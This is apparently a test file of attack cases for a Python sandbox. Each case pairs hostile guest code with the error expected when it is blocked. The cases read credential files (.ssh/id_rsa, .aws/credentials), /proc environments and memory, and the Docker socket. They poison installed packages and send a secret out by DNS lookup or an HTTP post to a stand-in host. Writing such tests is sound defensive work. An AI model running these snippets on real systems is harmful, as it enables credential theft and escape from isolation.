"""Attacks on what the guest may not know: environment, files, memory, network."""

from tests.attacks.attack import CANARY_FILE, GRAPH, HOME, PARENT, Attack, at_import, in_call

_IMPORT = "may not be imported so|the top level may hold only"
_NOT_THERE = "FileNotFoundError|PermissionError|NotADirectoryError"


def _at_import(name, tries, code, reason, static=_IMPORT, ends="trace"):
    return Attack(name, tries, at_import(code), static, ends, reason)


ATTACKS = (
    _at_import(
        "environment",
        "reads API keys from the environment",
        "import os\nraise ValueError(dict(os.environ))",
        "ValueError: {.*JAX_PLATFORMS",
    ),
    _at_import(
        "environment_of_libc",
        "reads the environment that the process was started with, past Python",
        "import ctypes\n"
        "words = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')\n"
        "raise ValueError([words[i] for i in range(12) if words[i]])",
        "ValueError: ",
    ),
    _at_import(
        "environment_of_the_parent",
        "reads the parent's environment from /proc",
        f"raise ValueError(open('/proc/{PARENT}/environ').read())",
        _NOT_THERE,
        static="the top level may hold only",
    ),
    _at_import(
        "own_environment_in_proc",
        "reads its own first environment from /proc",
        "x = open('/proc/self/environ').read()",
        _NOT_THERE,
        static="builtin `open`",
    ),
    _at_import(
        "memory_of_the_parent",
        "opens the parent's memory through /proc",
        f"x = open('/proc/{PARENT}/mem', 'rb').read(1)",
        _NOT_THERE,
        static="builtin `open`",
    ),
    _at_import(
        "keys_in_home",
        "collects the usual files with keys in them",
        "import os\nfound = []\n"
        "for name in ('.ssh/id_rsa', '.netrc', '.aws/credentials', '.cache/huggingface/token'):\n"
        "    for home in ('@HOME@', '/root', os.path.expanduser('~')):\n"
        "        try:\n"
        "            found.append(open(f'{home}/{name}').read())\n"
        "        except OSError:\n"
        "            pass\n"
        "raise ValueError(f'found {len(found)}')",
        "ValueError: found 0",
    ),
    _at_import(
        "canary_file",
        "reads a file of the user's",
        f"raise ValueError(open('{CANARY_FILE}').read())",
        _NOT_THERE,
        static="the top level may hold only",
    ),
    Attack(
        "canary_by_numpy",
        "reads a file through numpy",
        in_call(f"z = z + np.fromfile('{CANARY_FILE}', dtype=np.uint8).sum()"),
        "`np.fromfile`",
        "trace",
        _NOT_THERE,
    ),
    Attack(
        "canary_by_memory_map",
        "maps a file into memory through numpy",
        in_call(f"z = z + np.memmap('{CANARY_FILE}', mode='r').sum()"),
        "`np.memmap`",
        "trace",
        _NOT_THERE,
    ),
    _at_import(
        "canary_through_roots",
        "reaches a file through other names of the root folder",
        "import os\n"
        "def attempt(path):\n"
        "    try:\n"
        "        return open(path).read()\n"
        "    except OSError:\n"
        "        return ''\n"
        "paths = ['/proc/self/root', '/proc/1/root', '/proc/self/cwd', '/..', '/dev/fd/3/..']\n"
        f"raise ValueError(''.join(attempt(p + '{CANARY_FILE}') for p in paths) or 'nothing')",
        "ValueError: nothing",
    ),
    _at_import(
        "canary_through_a_link",
        "makes a symbolic link to a file and reads that",
        f"import os\nos.symlink('{CANARY_FILE}', '/tmp/link')\nraise ValueError(open('/tmp/link'))",
        "PermissionError|OSError|FileNotFoundError",
    ),
    _at_import(
        "canary_through_a_hard_link",
        "makes a hard link to a file where it may read",
        f"import os\nos.link('{CANARY_FILE}', os.path.dirname(os.__file__) + '/stolen.py')",
        "PermissionError|OSError|FileNotFoundError",
    ),
    _at_import(
        "folders",
        "lists folders of the user and of the machine",
        "import os\nseen = []\n"
        "for path in ('@HOME@', '/home', '/root', '/etc', '/tmp', '/var', '/proc', '/sys'):\n"
        "    try:\n"
        "        seen += os.listdir(path)\n"
        "    except OSError:\n"
        "        pass\n"
        "raise ValueError(f'{len(seen)} names')",
        "ValueError: 0 names",
    ),
    _at_import(
        "writing_at_home",
        "leaves a file at the user's home",
        f"x = open('{HOME}/left-behind', 'w')",
        "PermissionError|OSError|FileNotFoundError",
        static="builtin `open`",
    ),
    _at_import(
        "writing_in_temporary_folders",
        "leaves a file in a folder that everybody may write in",
        "import os, tempfile\nfor folder in ('/tmp', '/dev/shm', '/var/tmp', os.getcwd()):\n"
        "    try:\n"
        "        open(folder + '/left-behind', 'w')\n"
        "    except OSError:\n"
        "        continue\n"
        "    raise ValueError('wrote')\n"
        "tempfile.mkstemp()",
        "FileNotFoundError|PermissionError|OSError",
    ),
    _at_import(
        "poisoned_package",
        "appends to a file of the installed packages, for the next process to import",
        "x = open(jax.__file__, 'a')",
        "PermissionError|OSError",
        static="builtin `open`",
    ),
    _at_import(
        "poisoned_bytecode",
        "writes a compiled file for the next process to import",
        "import os, py_compile, math\n"
        "py_compile.compile(os.__file__, cfile=os.__file__ + 'c', doraise=True)",
        "PermissionError|OSError|FileNotFoundError",
    ),
    _at_import(
        "shared_memory",
        "opens memory that other processes can see",
        "from multiprocessing import shared_memory\n"
        "shared_memory.SharedMemory('canary', create=True, size=64)",
        "PermissionError|OSError|FileNotFoundError",
        static="`from ... import`|the top level may hold only",
    ),
    _at_import(
        "random_device",
        "draws a constant from the random device, so that every trace differs",
        "x = float(open('/dev/urandom', 'rb').read(1)[0])",
        "",
        static="builtin `open`",
        ends=GRAPH,
    ),
    _at_import(
        "memory_walk",
        "searches every object in its memory for keys and arrays of labels",
        "import gc\nneedle = 'can' + 'ary'\n"
        "found = [o for o in gc.get_objects() if isinstance(o, dict)\n"
        "         and any(isinstance(v, str) and needle in v and v is not needle\n"
        "                 for v in list(o.values()) if o is not globals())]\n"
        "arrays = [o for o in gc.get_objects() if isinstance(o, np.ndarray) and o.size > 4096]\n"
        "raise ValueError(f'{len(found)} strings, {len(arrays)} arrays')",
        "ValueError: 0 strings, 0 arrays",
    ),
    _at_import(
        "socket",
        "connects to a machine on the network",
        "import socket\nsocket.create_connection(('127.0.0.1', 22), 1)",
        "PermissionError",
    ),
    _at_import(
        "socket_of_the_machine",
        "connects to a service of the machine by a socket file",
        "import socket\nsocket.socket(socket.AF_UNIX).connect('/var/run/docker.sock')",
        "PermissionError",
    ),
    _at_import(
        "sockets_of_other_kinds",
        "opens raw, packet and netlink sockets",
        "import socket\n"
        "for family, kind in ((2, 3), (17, 3), (16, 3), (40, 1)):\n"
        "    try:\n"
        "        socket.socket(family, kind)\n"
        "    except OSError:\n"
        "        continue\n"
        "    raise ValueError('opened')\n"
        "socket.socketpair()",
        "PermissionError",
    ),
    _at_import(
        "name_service",
        "sends a secret away as the name of a machine to look up",
        "import socket\nsocket.getaddrinfo('secret.example.org', 53)",
        "gaierror|PermissionError",
    ),
    _at_import(
        "web",
        "posts to a web page",
        "import urllib.request\nurllib.request.urlopen('http://example.org', b'secret', 2)",
        "URLError|PermissionError",
    ),
    _at_import(
        "shared_descriptor",
        "looks for an inherited descriptor to read from",
        "import os\nread = []\n"
        "for number in range(200):\n"
        "    try:\n"
        "        read.append(os.read(number, 100))\n"
        "    except OSError:\n"
        "        pass\n"
        "raise ValueError(sorted(set(read)))",
        r"ValueError: \[b''\]",
    ),
)
